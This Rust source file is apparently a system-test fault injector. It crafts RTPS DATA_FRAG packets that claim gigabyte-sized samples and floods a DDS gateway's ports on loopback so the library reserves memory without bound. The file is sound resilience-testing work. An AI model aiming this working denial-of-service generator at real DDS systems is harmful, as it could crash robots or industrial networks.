//! Packets that make a DDS library reserve memory without bound, sent at the gateway of a node.
//!
//! Place in the flow: a fault for the system tests, on loopback in a network of their own.

use super::program::{gateway_of, udp_ports};
use std::thread;
use std::time::{Duration, Instant};

/// Port at which the first participant of domain 0 takes packets meant for it alone (RTPS 2.5, section 9.6.2.3).
const FIRST_UNICAST_PORT: u16 = 7410;

/// Packets that have reached a gateway before an attack counts as one.
const ENOUGH: u32 = 100;
/// A gateway that is attacked is away while it starts again, on a busy machine most of the time.
const PATIENCE: Duration = Duration::from_secs(40);

/// Sends 200 packets a second to whatever gateway a node has, for this time and until there were enough.
pub(crate) fn attack(node: u32, duration: Duration) {
    let socket = std::net::UdpSocket::bind((std::net::Ipv4Addr::LOCALHOST, 0)).unwrap();
    let (since, mut attack, mut sent) = (Instant::now(), Attack(0x9e37_79b9_7f4a_7c15), 0);
    while since.elapsed() < duration || (sent <= ENOUGH && since.elapsed() < PATIENCE) {
        let packet = attack.packet();
        assert_eq!(packet.len(), 120);
        // Below lie the ports of multicast, which the user's participant listens to as well.
        let ports = gateway_of(node).map(udp_ports).unwrap_or_default();
        for port in ports.into_iter().filter(|port| *port >= FIRST_UNICAST_PORT) {
            // Nobody listens there any more when the packet comes: it has ended.
            sent += u32::from(socket.send_to(&packet, (std::net::Ipv4Addr::LOCALHOST, port)).is_ok());
        }
        thread::sleep(Duration::from_millis(5));
    }
    println!("{sent} packets sent");
    assert!(sent > ENOUGH, "there was no gateway to attack");
}

/// Packets as an attacker would send them: fragments of samples of a gigabyte, in 120 bytes, and noise.
struct Attack(u64);

impl Attack {
    /// xorshift64: the same packets in every run.
    fn random(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn packet(&mut self) -> Vec<u8> {
        let mut packet = b"RTPS\x02\x04\x01\x12".to_vec();
        let prefix: Vec<u8> = (0..12).map(|_| self.random() as u8).collect();
        packet.extend(prefix);
        packet.extend(self.fragment());
        if self.random().is_multiple_of(4) {
            // Noise in an otherwise sound packet.
            for _ in 0..4 {
                let place = 20 + self.random() as usize % (packet.len() - 20);
                packet[place] = self.random() as u8;
            }
        }
        packet
    }

    /// A DATA_FRAG to the reader that listens to announcements of participants, after RTPS 2.5, section 9.4.5.5.
    fn fragment(&mut self) -> Vec<u8> {
        let payload = [0_u8; 64];
        let mut message = vec![0x16, 0b1];
        message.extend(u16::try_from(32 + payload.len()).unwrap().to_le_bytes());
        message.extend([0, 0, 28, 0]);
        message.extend([0, 1, 0, 0xc7]);
        message.extend([0, 1, 0, 0xc2]);
        message.extend(0_u32.to_le_bytes());
        message.extend((1 + self.random() as u32 % 1000).to_le_bytes());
        message.extend(1_u32.to_le_bytes());
        message.extend(1_u16.to_le_bytes());
        message.extend(60_000_u16.to_le_bytes());
        message.extend((1_u32 << 30).to_le_bytes());
        message.extend(payload);
        message
    }
}
